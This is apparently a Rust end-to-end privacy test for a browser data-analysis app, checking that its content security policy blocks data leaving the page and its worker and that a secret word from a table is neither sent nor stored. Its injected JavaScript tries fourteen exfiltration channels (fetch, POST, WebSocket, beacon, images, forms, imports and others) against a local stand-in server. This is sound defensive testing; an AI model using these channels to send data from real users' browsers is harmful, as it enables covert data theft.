//! Privacy: every way to send data is tried, from the page and from its worker, to a foreign server that logs requests.

use anyhow::{Context as _, Result, ensure};
use pinhole_e2e::{
    Page, Setup,
    browser::dist,
    csv::SyntheticTable,
    files::Folder,
    page::{LONG_TIMEOUT, SHORT_TIMEOUT},
    scenario,
};
use serde_json::{Value, json};
use xtask::server::{Override, Reply, Server, Site};

use crate::training::set_up;

/// Script that collects policy violations of the page and results from the worker.
const COLLECT_RESULTS: &str = "
    window.__violations = [];
    document.addEventListener('securitypolicyviolation', event => window.__violations.push(event.effectiveDirective));
    window.__worker = [];
    new BroadcastChannel('attack').onmessage = event => window.__worker.push(event.data);
";

/// Script that tries each way to reach the foreign address, `arguments[0]`, and returns the result of each.
const ATTACK: &str = "
    const [foreign, done] = arguments;
    const outcome = {};
    const settle = (way, promise) => Promise.race([
        promise.then(() => 'allowed', () => 'refused'),
        new Promise(resolve => setTimeout(() => resolve('no answer'), 3000)),
    ]).then(result => { outcome[way] = result; });
    const loads = element => new Promise((resolve, reject) => {
        element.onload = resolve; element.onerror = reject; document.body.append(element);
    });
    const make = (name, properties) => Object.assign(document.createElement(name), properties);
    const ways = {
        fetch: () => fetch(foreign + 'fetch', { mode: 'no-cors' }),
        post: () => fetch(foreign + 'post', { mode: 'no-cors', method: 'POST', body: 'secret' }),
        XMLHttpRequest: () => new Promise((resolve, reject) => {
            const request = new XMLHttpRequest();
            request.onload = resolve; request.onerror = reject;
            request.open('GET', foreign + 'xhr'); request.send();
        }),
        WebSocket: () => new Promise((resolve, reject) => {
            const socket = new WebSocket(foreign.replace('http', 'ws') + 'socket');
            socket.onopen = resolve; socket.onerror = reject;
        }),
        EventSource: () => new Promise((resolve, reject) => {
            const source = new EventSource(foreign + 'events');
            source.onopen = resolve; source.onerror = reject;
        }),
        // sendBeacon returns true even if the policy then drops the beacon: only the foreign server's log counts.
        sendBeacon: () => Promise.resolve(navigator.sendBeacon(foreign + 'beacon', 'secret')),
        image: () => loads(make('img', { src: foreign + 'image.png' })),
        script: () => loads(make('script', { src: foreign + 'script.js' })),
        style: () => loads(make('link', { rel: 'stylesheet', href: foreign + 'style.css' })),
        frame: () => loads(make('iframe', { src: foreign + 'frame' })),
        worker: () => new Promise((resolve, reject) => {
            const worker = new Worker(foreign + 'worker.js');
            worker.onmessage = resolve; worker.onerror = reject;
        }),
        import: () => import(foreign + 'module.js'),
        form: () => new Promise((resolve, reject) => {
            const form = make('form', { method: 'post', action: foreign + 'form', target: '_blank' });
            document.addEventListener('securitypolicyviolation', reject, { once: true });
            document.body.append(form); form.submit();
        }),
        prefetch: () => loads(make('link', { rel: 'prefetch', href: foreign + 'prefetch' })),
    };
    (async () => {
        for (const [way, attempt] of Object.entries(ways))
            await settle(way, new Promise((resolve, reject) => { try { attempt().then(resolve, reject); } catch (error) { reject(error); } }));
        done(outcome);
    })();
";

/// Script with the same attempts, to run before the worker's own script.
fn worker_attack(foreign: &str) -> String {
    let foreign = json!(foreign);
    format!(
        "{{
            const foreign = {foreign};
            const channel = new BroadcastChannel('attack');
            const attempt = (way, start) => {{
                let result;
                try {{ result = start(); }} catch (error) {{ result = Promise.reject(error); }}
                result.then(() => channel.postMessage(way + ' allowed'), () => channel.postMessage(way + ' refused'));
            }};
            attempt('fetch', () => fetch(foreign + 'worker-fetch', {{ mode: 'no-cors' }}));
            attempt('XMLHttpRequest', () => new Promise((resolve, reject) => {{
                const request = new XMLHttpRequest();
                request.onload = resolve; request.onerror = reject;
                request.open('POST', foreign + 'worker-xhr'); request.send('secret');
            }}));
            attempt('WebSocket', () => new Promise((resolve, reject) => {{
                const socket = new WebSocket(foreign.replace('http', 'ws') + 'worker-socket');
                socket.onopen = resolve; socket.onerror = reject;
            }}));
            attempt('import', () => import(foreign + 'worker-module.js'));
        }}
        "
    )
}

#[test]
fn every_way_to_send_data_is_refused() {
    let foreign = Server::start(Site::new(dist()), 0).expect("a free port");
    // Another name of this machine is another origin and another host, as a foreign server is.
    let address = foreign.address().replace("127.0.0.1", "localhost");
    let own = std::fs::read_to_string(dist().join("engine-worker.js")).expect("the worker's script is in dist");
    let body = format!("{}{own}", worker_attack(&address)).into_bytes();
    let attacked: Override = Box::new(move |path| {
        (path == "engine-worker.js").then(|| Reply { status: 200, content_type: "text/javascript", body: body.clone() })
    });
    scenario(Setup::cpu().before_scripts(COLLECT_RESULTS).with_override(attacked), async |page| {
        page.open("").await?;
        set_up(page, 500, 64, 1).await?;
        page.press("Train").await?;
        page.until_phase("finished", LONG_TIMEOUT).await?;
        attack_from_page(page, &address).await?;
        let from_worker = page
            .until("four attempts from the worker", SHORT_TIMEOUT, async || {
                let results = page.script("return window.__worker;", vec![]).await?;
                Ok((results.as_array().is_some_and(|results| results.len() >= 4)).then_some(results))
            })
            .await?;
        println!("from the worker: {from_worker}");
        let arrived = foreign.log();
        ensure!(arrived.is_empty(), "another server has seen {arrived:?}");
        ensure!(!from_worker.to_string().contains("allowed"), "the worker may do what the page may not: {from_worker}");
        ensure_only_files(page)?;
        Ok(())
    });
    let answered = std::net::TcpStream::connect(address.trim_start_matches("http://").trim_end_matches('/'));
    assert!(answered.is_ok(), "the foreign server does not listen: nothing could have arrived");
}

/// Checks that the page has requested only its own files from its own server.
fn ensure_only_files(page: &Page) -> Result<()> {
    for request in page.requests() {
        ensure!(
            request.method == "GET" && request.body_length == 0,
            "a request is more than a fetch of a file: {request:?}"
        );
        let path = request.url.split('?').next().unwrap_or_default().trim_start_matches('/');
        let is_file = path.is_empty() || path == "favicon.ico" || dist().join(path).is_file();
        ensure!(is_file, "a request is not for a file of the page: {request:?}");
    }
    Ok(())
}

/// A word that occurs only in the table.
const SECRET: &str = "tremulous-quokka";

#[test]
fn a_table_is_neither_sent_nor_stored() {
    let foreign = Server::start(Site::new(dist()), 0).expect("a free port");
    let address = foreign.address().replace("127.0.0.1", "localhost");
    scenario(Setup::cpu().before_scripts(COLLECT_RESULTS), async |page| {
        let folder = Folder::new("secret")?;
        let table = SyntheticTable { anomaly_every: 20, ..SyntheticTable::new(600, 8) }.csv().replace("boost", SECRET);
        let table = folder.write(&format!("{SECRET}.csv"), table.as_bytes())?;
        page.open_tables().await?;
        page.open_csv(&table).await?;
        page.train_on_table().await?;
        page.shown_rows().await?;
        let (_, scored) = page.download("Download scored table", "csv").await?;
        ensure!(String::from_utf8_lossy(&scored).contains(SECRET), "the exported file is not of that table");
        page.download("Download report", "html").await?;
        page.download("Save detector", "safetensors").await?;
        attack_from_page(page, &address).await?;
        ensure!(foreign.log().is_empty(), "another server has seen {:?}", foreign.log());
        ensure_only_files(page)?;
        let is_leaked = page.requests().iter().any(|request| request.url.contains(SECRET));
        ensure!(!is_leaked, "an address contains a word of the table");
        let is_stored = page.client.execute_async(SEARCH_STORAGE, vec![json!(SECRET)]).await?;
        ensure!(is_stored == false, "the browser stores something of the table: {is_stored}");
        Ok(())
    });
}

/// Script that returns true if the browser's storage contains a word.
const SEARCH_STORAGE: &str = "
    const [word, done] = arguments;
    const holds = storage => JSON.stringify({ ...storage }).includes(word);
    const search = async () => {
        if (holds(localStorage) || holds(sessionStorage) || document.cookie.includes(word)) return true;
        for (const { name } of await indexedDB.databases()) if (name.includes(word)) return true;
        // A browser without a file system for pages cannot store there.
        const folder = await navigator.storage?.getDirectory();
        for await (const [name, handle] of folder?.entries() ?? [])
            if (name.includes(word) || (handle.kind === 'file' && (await (await handle.getFile()).text()).includes(word))) return true;
        return false;
    };
    search().then(done, error => done(String(error)));
";

async fn attack_from_page(page: &Page, address: &str) -> Result<()> {
    let outcome = page.client.execute_async(ATTACK, vec![json!(address)]).await?;
    println!("from the page: {outcome}");
    let ways = outcome.as_object().context("what each way came to")?;
    ensure!(ways.len() == 14, "{} ways were tried, not 14", ways.len());
    for (way, result) in ways {
        // The page cannot tell that a frame was refused: the browser's error page loads in it.
        let is_inconclusive = matches!(way.as_str(), "sendBeacon" | "frame");
        ensure!(is_inconclusive || result != "allowed", "{way} was allowed");
    }
    let violations = page.script("return window.__violations;", vec![]).await?;
    let seen = |directive: &str| {
        violations
            .as_array()
            .is_some_and(|all| all.iter().filter_map(Value::as_str).any(|one| one.starts_with(directive)))
    };
    for directive in ["connect-src", "img-src", "script-src", "style-src", "form-action", "frame-src"] {
        ensure!(seen(directive), "no violation of {directive} was reported: {violations}");
    }
    Ok(())
}
